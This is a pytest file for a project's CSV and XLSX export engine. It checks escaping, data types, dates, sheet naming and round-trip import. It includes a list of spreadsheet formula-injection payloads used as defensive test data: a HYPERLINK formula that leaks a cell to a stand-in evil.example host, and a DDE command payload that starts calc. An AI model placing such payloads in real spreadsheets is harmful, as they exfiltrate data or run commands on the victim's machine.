"""The tabular export engine: CSV and XLSX that show the list and cannot run formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from defusedxml import ElementTree

from schakel.core.exports.tabular import Column, ColumnKind, Sheet, to_csv, to_xlsx
from schakel.core.importers.tabular import FieldSpec, guess_mapping, parse_rows, read_table

INJECTIONS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]

SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def csv_rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    """Read CSV bytes the way a spreadsheet would: BOM-aware, with the csv module."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def load(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def title_sheet(values: list[Any], kind: ColumnKind = "text") -> Sheet:
    return Sheet("Risks", [Column("value", "Value", kind)], [{"value": v} for v in values])


# --------------------------------------------------------------------------- CSV


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_prefixes_formula_like_text_with_a_quote(text: str) -> None:
    rows = csv_rows(to_csv(title_sheet([text])))

    assert rows[1] == ["'" + text]


def test_csv_leaves_ordinary_text_and_real_negative_numbers_alone() -> None:
    sheet = Sheet(
        "Risks",
        [Column("title", "Title"), Column("delta", "Delta", "int")],
        [{"title": "It's fine - really", "delta": -2}],
    )

    assert csv_rows(to_csv(sheet))[1] == ["It's fine - really", "-2"]


def test_csv_starts_with_a_byte_order_mark_and_a_header_of_labels() -> None:
    sheet = Sheet("Risks", [Column("title", "Titel"), Column("owner", "Eigenaar")], [])

    data = to_csv(sheet)

    assert data.startswith(b"\xef\xbb\xbf")
    assert csv_rows(data) == [["Titel", "Eigenaar"]]


def test_csv_writes_iso_dates_joined_lists_booleans_and_empty_cells() -> None:
    columns = [
        Column("due", "Due", "date"),
        Column("seen", "Seen", "datetime"),
        Column("tags", "Tags", "list"),
        Column("done", "Done", "bool"),
        Column("cost", "Cost", "decimal"),
        Column("owner", "Owner"),
    ]
    row = {
        "due": date(2026, 3, 5),
        "seen": datetime(2026, 3, 5, 14, 30),
        "tags": ["budget", "supplier"],
        "done": False,
        "cost": Decimal("1234.50"),
        "owner": None,
    }

    rows = csv_rows(to_csv(Sheet("Risks", columns, [row])))

    assert rows[1] == [
        "2026-03-05",
        "2026-03-05 14:30:00",
        "budget, supplier",
        "FALSE",
        "1234.50",
        "",
    ]


def test_csv_follows_the_dutch_convention_when_asked() -> None:
    sheet = Sheet(
        "Risks",
        [Column("title", "Titel"), Column("cost", "Kosten", "decimal")],
        [{"title": "Licenties; verlengen", "cost": Decimal("1234.5")}],
    )

    data = to_csv(sheet, delimiter=";", decimal_separator=",")

    assert csv_rows(data, delimiter=";") == [
        ["Titel", "Kosten"],
        ["Licenties; verlengen", "1234,5"],
    ]


def test_csv_prefixes_formula_like_labels_and_list_items_too() -> None:
    sheet = Sheet("Risks", [Column("tags", "=Tags", "list")], [{"tags": ["-urgent", "later"]}])

    assert csv_rows(to_csv(sheet)) == [["'=Tags"], ["'-urgent, later"]]


def test_csv_strips_control_characters_that_no_spreadsheet_can_hold() -> None:
    rows = csv_rows(to_csv(title_sheet(["bad\x00da\x08ta\x1f here", "line\nbreak\ttab"])))

    assert [row[0] for row in rows[1:]] == ["baddata here", "line\nbreak\ttab"]


# --------------------------------------------------------------------------- XLSX


@pytest.mark.parametrize("text", INJECTIONS)
def test_xlsx_keeps_formula_like_text_as_a_string_cell(text: str) -> None:
    data = to_xlsx([title_sheet([text])])

    cell = load(data)["Risks"]["A2"]
    assert cell.data_type == "s"
    # With lxml installed openpyxl writes a carriage return as &#13; and reads it back;
    # without it a bare CR becomes a line feed. Either way the text is otherwise unchanged.
    assert cell.value.replace("\r", "\n") == text.replace("\r", "\n")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    assert sheet_xml.findall(f".//{SHEET_NS}f") == []


def test_xlsx_writes_real_numbers_as_numbers_even_when_negative() -> None:
    sheet = Sheet(
        "Budget",
        [Column("delta", "Delta", "int"), Column("cost", "Cost", "decimal")],
        [{"delta": -2, "cost": Decimal("-1234.5")}, {"delta": 7, "cost": 0.25}],
    )

    worksheet = load(to_xlsx([sheet]))["Budget"]

    assert [(c.value, c.data_type) for c in worksheet[2]] == [(-2, "n"), (-1234.5, "n")]
    assert [(c.value, c.data_type) for c in worksheet[3]] == [(7, "n"), (0.25, "n")]


def test_xlsx_writes_dates_as_date_cells_with_a_date_format() -> None:
    sheet = Sheet(
        "Actions",
        [Column("due", "Due", "date"), Column("seen", "Seen", "datetime")],
        [{"due": date(2026, 3, 5), "seen": datetime(2026, 3, 5, 14, 30, tzinfo=UTC)}],
    )

    due, seen = load(to_xlsx([sheet]))["Actions"][2]

    assert due.is_date and due.value == datetime(2026, 3, 5)
    assert due.number_format == "yyyy-mm-dd"
    assert seen.is_date and seen.value == datetime(2026, 3, 5, 14, 30)
    assert seen.number_format == "yyyy-mm-dd hh:mm"


def test_xlsx_writes_a_datetime_in_a_date_column_as_the_date() -> None:
    sheet = Sheet("Actions", [Column("due", "Due", "date")], [{"due": datetime(2026, 3, 5, 9)}])

    assert load(to_xlsx([sheet]))["Actions"]["A2"].value == datetime(2026, 3, 5)


def test_xlsx_writes_booleans_as_true_and_false_and_lists_as_text() -> None:
    sheet = Sheet(
        "Decisions",
        [Column("ok", "Approved", "bool"), Column("tags", "Tags", "list")],
        [{"ok": True, "tags": ("board", "budget")}, {"ok": False, "tags": []}],
    )

    worksheet = load(to_xlsx([sheet]))["Decisions"]

    assert [(c.value, c.data_type) for c in worksheet[2]] == [(True, "b"), ("board, budget", "s")]
    assert worksheet["A3"].value is False
    assert worksheet["B3"].value is None


def test_xlsx_header_is_bold_frozen_and_filtered_over_the_data() -> None:
    sheet = Sheet(
        "Risks",
        [Column("ref", "Ref"), Column("title", "Title"), Column("score", "Score", "int")],
        [{"ref": f"PRJ-R{n}", "title": f"Risk {n}", "score": n} for n in range(1, 6)],
    )

    worksheet = load(to_xlsx([sheet]))["Risks"]

    assert [c.value for c in worksheet[1]] == ["Ref", "Title", "Score"]
    assert all(c.font.b for c in worksheet[1])
    assert not worksheet["A2"].font.b
    assert worksheet.freeze_panes == "A2"
    assert worksheet.auto_filter.ref == "A1:C6"


def test_xlsx_column_widths_follow_the_given_width_or_the_content_capped() -> None:
    sheet = Sheet(
        "Risks",
        [
            Column("ref", "Ref", width=14),
            Column("title", "Title"),
            Column("description", "Description"),
        ],
        [{"ref": "R1", "title": "Supplier goes bankrupt", "description": "x" * 500}],
    )

    dimensions = load(to_xlsx([sheet]))["Risks"].column_dimensions

    assert dimensions["A"].width == 14
    assert len("Supplier goes bankrupt") < dimensions["B"].width <= 30
    assert dimensions["C"].width == 60


def test_xlsx_makes_sheet_names_valid_and_unique_for_excel() -> None:
    names = [
        "Risks/Issues [open]: *now*?",
        "R" * 40,
        "R" * 40,
        "risks issues  open    now",
        "History",
        "'quoted'",
        "",
    ]
    sheets = [Sheet(name, [Column("a", "A")], []) for name in names]

    titles = load(to_xlsx(sheets)).sheetnames

    assert len(titles) == len(names)
    assert len({title.casefold() for title in titles}) == len(titles)
    for title in titles:
        assert 0 < len(title) <= 31
        assert not set(title) & set("[]:*?/\\")
        assert not title.startswith("'") and not title.endswith("'")
        assert title.casefold() != "history"
    assert titles[0] == "Risks Issues open now"
    assert titles[1] == "R" * 31
    assert titles[2] == "R" * 27 + " (2)"


def test_xlsx_strips_control_characters_instead_of_writing_a_corrupt_file() -> None:
    data = to_xlsx([title_sheet(["bad\x00da\x08ta\x0b here\ud800", "line\nbreak"])], title="T\x01")

    workbook = load(data)
    assert [row[0].value for row in workbook["Risks"].iter_rows(min_row=2)] == [
        "baddata here",
        "line\nbreak",
    ]
    assert workbook.properties.title == "T"


def test_xlsx_puts_one_worksheet_per_sheet_and_sets_the_title() -> None:
    sheets = [
        Sheet("Risks", [Column("t", "Title")], [{"t": "R"}]),
        Sheet("Actions", [Column("t", "Title")], [{"t": "A"}]),
    ]

    workbook = load(to_xlsx(sheets, title="RAID log PRJ"))

    assert workbook.sheetnames == ["Risks", "Actions"]
    assert workbook["Actions"]["A2"].value == "A"
    assert workbook.properties.title == "RAID log PRJ"


def test_xlsx_streams_thirty_thousand_rows_from_a_generator() -> None:
    consumed = 0

    def rows() -> Iterator[dict[str, Any]]:
        nonlocal consumed
        for n in range(30_000):
            consumed += 1
            yield {"ref": f"PRJ-A{n}", "due": date(2026, 1, 1), "score": n, "title": "=x"}

    columns = [
        Column("ref", "Ref"),
        Column("due", "Due", "date"),
        Column("score", "Score", "int"),
        Column("title", "Title"),
    ]

    data = to_xlsx([Sheet("Actions", columns, rows())])

    assert consumed == 30_000
    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    values = list(workbook["Actions"].iter_rows(values_only=True))
    workbook.close()
    assert len(values) == 30_001
    assert values[-1] == ("PRJ-A29999", datetime(2026, 1, 1), 29_999, "=x")


# --------------------------------------------------------------------------- round trip


ROUND_TRIP_COLUMNS = [
    Column("title", "Title"),
    Column("owner", "Owner"),
    Column("due", "Due date", "date"),
    Column("score", "Score", "int"),
    Column("cost", "Cost", "decimal"),
    Column("escalated", "Escalated", "bool"),
    Column("tags", "Tags", "list"),
    Column("status", "Status"),
]
ROUND_TRIP_FIELDS = [
    FieldSpec("title", "text", required=True, synonyms=["Title"]),
    FieldSpec("owner", "person", synonyms=["Owner"]),
    FieldSpec("due", "date", synonyms=["Due date"]),
    FieldSpec("score", "int", synonyms=["Score"]),
    FieldSpec("cost", "decimal", synonyms=["Cost"]),
    FieldSpec("escalated", "bool", synonyms=["Escalated"]),
    FieldSpec("tags", "list", synonyms=["Tags"]),
    FieldSpec(
        "status",
        "choice",
        synonyms=["Status"],
        choices={"open": ["Open", "Open (nl)"], "closed": ["Closed", "Gesloten"]},
    ),
]
ROUND_TRIP_ROWS: list[dict[str, Any]] = [
    {
        "title": '=HYPERLINK("https://evil.example","x")',
        "owner": "Jan de Vries",
        "due": date(2026, 3, 15),
        "score": -2,
        "cost": Decimal("1234.5"),
        "escalated": True,
        "tags": ["budget", "supplier"],
        "status": "open",
    },
    {
        "title": "Überstunden — café",
        "owner": None,
        "due": None,
        "score": 25,
        "cost": Decimal("0.1"),
        "escalated": False,
        "tags": [],
        "status": "closed",
    },
    {
        "title": "-2+3",
        "owner": "@piet",
        "due": date(1999, 12, 31),
        "score": 0,
        "cost": None,
        "escalated": None,
        "tags": ["x"],
        "status": None,
    },
]


def export_rows() -> list[dict[str, Any]]:
    # Choices are exported as the label the list shows.
    labels = {"open": "Open", "closed": "Gesloten"}
    return [{**row, "status": labels.get(row["status"])} for row in ROUND_TRIP_ROWS]


@pytest.mark.parametrize(
    ("filename", "render"),
    [
        ("risks.csv", lambda sheet: to_csv(sheet)),
        ("risks.csv", lambda sheet: to_csv(sheet, delimiter=";", decimal_separator=",")),
        ("risks.xlsx", lambda sheet: to_xlsx([sheet])),
    ],
    ids=["csv", "csv-dutch", "xlsx"],
)
def test_an_export_reads_back_as_the_same_values(filename: str, render: Any) -> None:
    data = render(Sheet("Risks", ROUND_TRIP_COLUMNS, export_rows()))

    table = read_table(data, filename)
    mapping = guess_mapping(table.headers, ROUND_TRIP_FIELDS)
    result = parse_rows(table, mapping, ROUND_TRIP_FIELDS)

    assert result.errors == []
    assert [row.number for row in result.rows] == [2, 3, 4]
    assert [row.values for row in result.rows] == ROUND_TRIP_ROWS
